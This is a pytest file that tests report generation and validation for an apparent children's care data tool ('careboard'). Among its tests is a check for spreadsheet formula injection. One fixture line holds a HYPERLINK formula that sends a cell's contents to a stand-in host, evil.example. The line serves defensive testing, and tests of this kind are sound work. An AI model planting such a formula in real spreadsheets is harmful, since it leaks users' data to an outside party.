"""Validation end to end: files or a loaded return, reports a data officer can act on."""

import csv

import numpy as np
import openpyxl
import pytest
from typer.testing import CliRunner

from builders import EPISODE_ROWS, HEADER_ROWS, write_table
from careboard.cli import app
from careboard.returns.issues import ReturnError
from careboard.returns.reader import read_returns
from careboard.returns.spec import ssda903
from careboard.store import db as store_db
from careboard.store.load import load_returns
from careboard.validate import report
from careboard.validate.runner import validate_files, validate_loaded
from fresh_db import fresh_database, fresh_file

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Click me")'


def bad_set(folder):
    header = [dict(HEADER_ROWS[0]), dict(HEADER_ROWS[1], ETHNIC="XXXX", DOB="31/02/2019")]
    episodes = [dict(EPISODE_ROWS[0]), dict(EPISODE_ROWS[1]), dict(EPISODE_ROWS[2], PLACE="Q9")]
    write_table(folder, "Header", header)
    write_table(folder, "Episodes", episodes)


def test_files_with_bad_values_are_checked_not_refused(small_set):
    bad_set(small_set)
    checked = validate_files([small_set], None, None)
    got = {(f["rule"], f["table"], f["row"], f["line"], f["child"]) for f in checked.findings}
    assert ("103", "Header", 2, 3, "1002") in got
    assert ("102", "Header", 2, 3, "1002") in got  # an impossible date is a DfE finding, not a crash
    assert ("146", "Episodes", 3, 4, "1002") in got
    assert checked.children_affected >= 1
    assert not [why for why in checked.result.skipped.values() if why.startswith("rule could not run")]


def test_loaded_return_findings_are_stored(small_set):
    write_table(small_set, "Episodes", [dict(EPISODE_ROWS[2], PLACE="Q9")])
    con = fresh_database()
    load_returns(con, read_returns([small_set]))
    checked = validate_loaded(con, "886", 2026)
    stored = con.execute("SELECT rule, table_name, source_row, line, child FROM validation_findings").fetchall()
    assert ("146", "Episodes", 1, 2, "1002") in stored
    run = con.execute("SELECT la, year, finding_count FROM validation_runs").fetchone()
    assert run == ("886", 2026, checked.count)
    con.close()


def test_reports(tmp_path, small_set):
    bad_set(small_set)
    checked = validate_files([small_set], None, None)
    report.write_csv(checked, tmp_path / "f.csv")
    rows = list(csv.DictReader((tmp_path / "f.csv").open()))
    assert list(rows[0]) == ["table", "file", "row", "line", "field", "child", "rule", "source", "message", "found",
                             "detail"]
    assert {"table": "Episodes", "file": "Episodes.csv", "row": "3", "line": "4", "field": "", "child": "1002",
            "rule": "146", "source": "DfE", "message": "Placement type code is not a valid code.", "found": "",
            "detail": ""} in rows
    assert len(rows) == checked.count
    report.write_xlsx(checked, tmp_path / "f.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "f.xlsx")
    assert wb.sheetnames == ["By child", "By rule", "Rules not run"]
    assert wb["By child"]["A2"].value == "1002"
    report.write_html(checked, tmp_path / "f.html")
    html = (tmp_path / "f.html").read_text()
    assert "Child 1002: " in html and "Placement type code is not a valid code." in html


def test_cli_validate(tmp_path, small_set):
    bad_set(small_set)
    res = CliRunner().invoke(app, ["validate", str(small_set), "--out", str(tmp_path / "f.csv")])
    assert res.exit_code == 0, res.output
    assert "886 2025-26: " in res.output and "Placement type code is not a valid code." in res.output
    res = CliRunner().invoke(app, ["validate", "--la", "886", "--year", "2026", "--db", str(tmp_path / "n.duckdb")])
    assert res.exit_code == 1 and "no SSDA903 or CIN census return for 886 2025-26 is loaded" in res.output


# --- row and line, as careboard load names places (issue 10, item 13) ---------------------------


def test_row_and_line_mean_what_the_loader_says(tmp_path, small_set):
    """A quoted cell over two lines puts data row 2 on file line 4: the loader says "row 2 (line 4)",
    and every validation output must say row 2, line 4 for the same cell."""
    (small_set / "Header.csv").write_text(
        "CHILD,SEX,DOB,ETHNIC,UPN,MOTHER,MC_DOB\n"
        '1001,M,01/05/2012,WBRI,"UN1\nX",,\n'
        "1002,F,31/02/2019,BAFR,UN2,0,\n"
    )
    with pytest.raises(ReturnError) as caught:
        read_returns([small_set])
    assert "Header.csv, row 2 (line 4), field DOB" in caught.value.render()

    checked = validate_files([small_set], None, None)
    (f,) = [f for f in checked.findings if f["rule"] == "102"]
    assert (f["table"], f["row"], f["line"], f["field"], f["value"]) == ("Header", 2, 4, "DOB", "31/02/2019")
    report.write_csv(checked, tmp_path / "f.csv")
    (row,) = [r for r in csv.DictReader((tmp_path / "f.csv").open()) if r["rule"] == "102"]
    assert (row["row"], row["line"]) == ("2", "4")
    report.write_xlsx(checked, tmp_path / "f.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "f.xlsx")["By child"]
    header = [c.value for c in sheet[1]]
    (xrow,) = [r for r in sheet.iter_rows(min_row=2, values_only=True) if r[header.index("Rule")] == "102"]
    assert (xrow[header.index("Row")], xrow[header.index("Line")]) == (2, 4)
    report.write_html(checked, tmp_path / "f.html")
    assert '<td class="num">2</td><td class="num">4</td><td>DOB</td><td>102</td>' in (tmp_path / "f.html").read_text()


def test_row_and_line_of_a_loaded_xml_return(tmp_path):
    """In XML the row is the record and the line the element's line; stored findings keep both."""
    xml = tmp_path / "return.xml"
    xml.write_text(
        "<EXPSSDA903>\n"
        "<CHILD>\n<HEADER><CHILDID>A</CHILDID><SEX>M</SEX><DOB>01/01/2010</DOB><ETHNIC>WBRI</ETHNIC>"
        "<UPN>UN1</UPN></HEADER>\n</CHILD>\n"
        "<CHILD>\n<HEADER><CHILDID>B</CHILDID><SEX>F</SEX><DOB>02/02/2012</DOB><ETHNIC>XXXX</ETHNIC>"
        "<UPN>UN1</UPN></HEADER>\n</CHILD>\n"
        "</EXPSSDA903>\n"
    )
    con = fresh_database()
    load_returns(con, read_returns([xml], la="886", year=2026))
    validate_loaded(con, "886", 2026)
    line = 1 + xml.read_text().splitlines().index(next(x for x in xml.read_text().splitlines() if ">B<" in x))
    stored = con.execute(
        "SELECT source_row, line, child FROM validation_findings WHERE rule = '103'").fetchall()
    assert stored == [(2, line, "B")] and line == 6
    con.close()


# --- every normalisation the reader made is reported (issue 10, item 8) ------------------------


def repaired_set(folder):
    header = [dict(HEADER_ROWS[0], DOB="2012-05-01"), dict(HEADER_ROWS[1], DOB="2019-11-14", ETHNIC="bafr")]
    write_table(folder, "Header", header)
    write_table(folder, "Episodes", [dict(EPISODE_ROWS[0], CHILD="1001.0"), *EPISODE_ROWS[1:]])


FORMAT_FINDINGS = {
    ("CB-FMT-DATE", "Header", 1, 2, "DOB", "2012-05-01", "1001"),
    ("CB-FMT-DATE", "Header", 2, 3, "DOB", "2019-11-14", "1002"),
    ("CB-FMT-CASE", "Header", 2, 3, "ETHNIC", "bafr", "1002"),
    ("CB-FMT-EXCEL", "Episodes", 1, 2, "CHILD", "1001.0", "1001"),
}


def format_findings(findings):
    return {(f["rule"], f["table"], f["row"], f["line"], f["field"], f["value"], f["child"])
            for f in findings if f["rule"].startswith("CB-FMT")}


def test_every_repair_is_a_finding_when_files_are_checked(tmp_path, small_set):
    repaired_set(small_set)
    checked = validate_files([small_set], None, None)
    assert format_findings(checked.findings) == FORMAT_FINDINGS
    (date,) = [r for r in report.by_rule(checked) if r["rule"] == "CB-FMT-DATE"]
    assert date["source"] == "careboard" and date["findings"] == 2
    assert "the DfE expects dd/mm/yyyy" in date["message"]
    report.write_csv(checked, tmp_path / "f.csv")
    rows = [r for r in csv.DictReader((tmp_path / "f.csv").open()) if r["rule"] == "CB-FMT-DATE"]
    assert [(r["row"], r["line"], r["field"], r["found"], r["source"]) for r in rows] == [
        ("1", "2", "DOB", "2012-05-01", "careboard"), ("2", "3", "DOB", "2019-11-14", "careboard")]
    assert "dd/mm/yyyy" in rows[0]["detail"]
    report.write_html(checked, tmp_path / "f.html")
    assert "CB-FMT-DATE" in (tmp_path / "f.html").read_text()
    res = CliRunner().invoke(app, ["validate", str(small_set)])
    assert "CB-FMT-DATE" in res.output and "CB-FMT-EXCEL" in res.output


def test_every_repair_survives_the_load(tmp_path, small_set):
    repaired_set(small_set)
    path = fresh_file(tmp_path / "v.duckdb")
    con = store_db.connect(path)
    load_returns(con, read_returns([small_set]))
    con.close()
    con = store_db.connect(path)  # the positions are in the database, not in the process that loaded
    checked = validate_loaded(con, "886", 2026)
    assert format_findings(checked.findings) == FORMAT_FINDINGS
    stored = con.execute(
        "SELECT rule, table_name, source_row, line, field, value, child FROM validation_findings "
        "WHERE rule LIKE 'CB-FMT%'").fetchall()
    assert set(stored) == FORMAT_FINDINGS
    con.close()


def test_file_level_repairs_are_findings(small_set):
    (small_set / "Header.csv").write_bytes(
        "\ufeffchild,sex,dob,ethnic,upn,mother,mc_dob,LA\n1001,M,01/05/2012,WBRI,UN1,,,886\n\n"
        "1002,F,14/11/2019,BAFR,UN2,0,,886\n".encode())
    checked = validate_files([small_set], None, None)
    got = {(f["table"], f["file"], f["row"], f["line"], f["note"])
           for f in checked.findings if f["rule"] == "CB-FMT-FILE"}
    assert got == {
        ("Header", "Header.csv", 0, None, "UTF-8 byte-order mark at the start of the file ignored"),
        ("Header", "Header.csv", 0, 1, "column names written in lower or mixed case; matched ignoring case"),
        ("Header", "Header.csv", 0, 1, "column(s) LA are not part of the Header table; ignored"),
        ("Header", "Header.csv", 2, 3, "blank row(s) ignored"),
    }


def test_a_pseudonymised_load_keeps_no_identifier_as_found(small_set):
    repaired_set(small_set)
    con = fresh_database()
    load_returns(con, read_returns([small_set]), key=b"0123456789abcdef-secret")
    values = dict(con.execute("SELECT field, value FROM load_normalisations").fetchall())
    assert values["CHILD"] is None and values["DOB"] in ("2012-05-01", "2019-11-14")
    con.close()


# --- input that is not a return is refused before the rules (issue 12, item 6) -----------------


def garbage(folder, table, rows, seed=1):
    """``rows`` rows of random text under the table's DfE header row."""
    rng = np.random.default_rng(seed)
    alphabet = np.array(list("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789/-."))
    cols = ssda903().tables[table].column_names
    cells = ["".join(c) for c in rng.choice(alphabet, size=(rows * len(cols), 8))]
    lines = [",".join(cols)] + [",".join(cells[i * len(cols):(i + 1) * len(cols)]) for i in range(rows)]
    (folder / f"{table}.csv").write_text("\n".join(lines) + "\n")


def test_garbage_is_refused_before_any_rule(tmp_path, small_set):
    garbage(small_set, "Episodes", 20_000)
    with pytest.raises(ReturnError) as caught:
        validate_files([small_set], None, None)
    (issue,) = caught.value.errors
    assert issue.file == "Episodes.csv" and issue.row == 1 and issue.line == 2 and issue.field == "DECOM"
    assert "does not look like the Episodes table of an SSDA903 return, so no rules were run" in issue.message
    assert "20,000 of its 20,000 rows (100%)" in issue.message
    res = CliRunner().invoke(app, ["validate", str(small_set), "--out", str(tmp_path / "f.csv"),
                                   "--xlsx", str(tmp_path / "f.xlsx")])
    assert res.exit_code == 1 and "does not look like the Episodes table" in res.output
    assert "Traceback" not in res.output
    assert not (tmp_path / "f.csv").exists() and not (tmp_path / "f.xlsx").exists()


def test_garbage_last_year_is_refused_too(tmp_path, small_set):
    last = tmp_path / "886" / "2024-25"
    last.mkdir(parents=True)
    garbage(last, "Header", 50)
    with pytest.raises(ReturnError, match="does not look like the Header table"):
        validate_files([small_set], None, None, [last])


def test_a_few_bad_cells_are_findings_not_a_refusal(small_set):
    rows = [dict(HEADER_ROWS[0], CHILD=str(1000 + i)) for i in range(40)]
    rows += [dict(HEADER_ROWS[0], CHILD=str(2000 + i), DOB="31/02/2012") for i in range(19)]
    write_table(small_set, "Header", rows)
    checked = validate_files([small_set], None, None)
    assert sum(f["rule"] == "102" for f in checked.findings) == 19


def test_workbook_and_page_list_a_capped_number_per_rule_with_exact_counts(tmp_path, small_set):
    rows = [dict(HEADER_ROWS[0], CHILD=str(1000 + i), ETHNIC="XXXX") for i in range(30)]
    write_table(small_set, "Header", rows)
    checked = validate_files([small_set], None, None)
    report.write_xlsx(checked, tmp_path / "f.xlsx", per_rule=5)
    wb = openpyxl.load_workbook(tmp_path / "f.xlsx")
    by_rule = {r[0]: r for r in wb["By rule"].iter_rows(min_row=2, values_only=True)}
    assert by_rule["103"][3:] == (30, 30, 5)  # findings, children, listed
    listed = [r for r in wb["By child"].iter_rows(min_row=2, values_only=True) if r[6] == "103"]
    assert len(listed) == 5
    report.write_html(checked, tmp_path / "f.html", per_rule=5)
    html = (tmp_path / "f.html").read_text()
    assert "103 (5 of 30)" in html and html.count("<td>103</td>") == 1 + 5  # by rule, then 5 by child
    report.write_csv(checked, tmp_path / "f.csv")
    assert sum(r["rule"] == "103" for r in csv.DictReader((tmp_path / "f.csv").open())) == 30


# --- formula injection (issue 11, web security item 1) -----------------------------------------


def write_csv(folder, table, rows):
    """A 903 table written by Python's csv module, so cells holding commas and quotes are quoted."""
    cols = ssda903().tables[table].column_names
    with (folder / f"{table}.csv").open("w", newline="") as f:
        w = csv.writer(f)
        w.writerow(cols)
        w.writerows([[r.get(c) or "" for c in cols] for r in rows])


def test_formula_identifiers_are_findings_and_never_formulas_in_reports(tmp_path, small_set):
    write_csv(small_set, "Header", [dict(HEADER_ROWS[0], CHILD=EVIL), dict(HEADER_ROWS[1], UPN="@SUM(A1)")])
    write_csv(small_set, "Episodes", [dict(EPISODE_ROWS[0], CHILD=EVIL)])
    checked = validate_files([small_set], None, None)
    formula = {(f["table"], f["row"], f["field"], f["value"]) for f in checked.findings if f["rule"] == "CB-ID-FORMULA"}
    assert formula == {("Header", 1, "CHILD", EVIL), ("Header", 2, "UPN", "@SUM(A1)"), ("Episodes", 1, "CHILD", EVIL)}

    report.write_xlsx(checked, tmp_path / "f.xlsx")
    wb = openpyxl.load_workbook(tmp_path / "f.xlsx")
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert EVIL in [c.value for c in cells]  # shown exactly as found, as text

    report.write_csv(checked, tmp_path / "f.csv")
    rows = list(csv.reader((tmp_path / "f.csv").open()))
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + EVIL in [cell for row in rows for cell in row]


def test_rules_run_in_two_halves_find_what_one_query_finds(small_set):
    """A run on files checks its rules' query in two halves on two connections at once
    (engine._run_in_halves): every finding of both halves is kept, none twice."""
    from careboard.validate.engine import run_rules

    bad_set(small_set)
    ret = read_returns([small_set], strict=False)
    found = []
    for shared in (False, True):
        con = fresh_database()
        (loaded,) = load_returns(con, ret)
        result = run_rules(con, loaded.load_id, 2026, "886", invalid=ret[0].invalid_cells, shared=shared)
        found.append(sorted(result.findings.to_pylist(), key=repr))
        con.close()
    one_query, two_halves = found
    assert len({f["rule"] for f in one_query}) >= 5
    assert two_halves == one_query


def test_files_holding_only_a_return_without_dfe_rules_say_what_they_hold():
    """A workforce census (or the local extracts) given to `careboard validate`: no SSDA903 or CIN census, and
    the message says what the files are and that `careboard load` reads them (it said only 'found 0')."""
    from sample_files import sample

    with pytest.raises(ReturnError) as raised:
        validate_files([sample("csww/csww_sample_2023.xml")], None, None)
    (issue,) = raised.value.errors
    assert issue.message == ("expected one SSDA903 or CIN census return, found 0; they hold CSWW census 340 Knowsley "
                             "2023-24, which careboard reads with careboard load but has no DfE validation rules for")
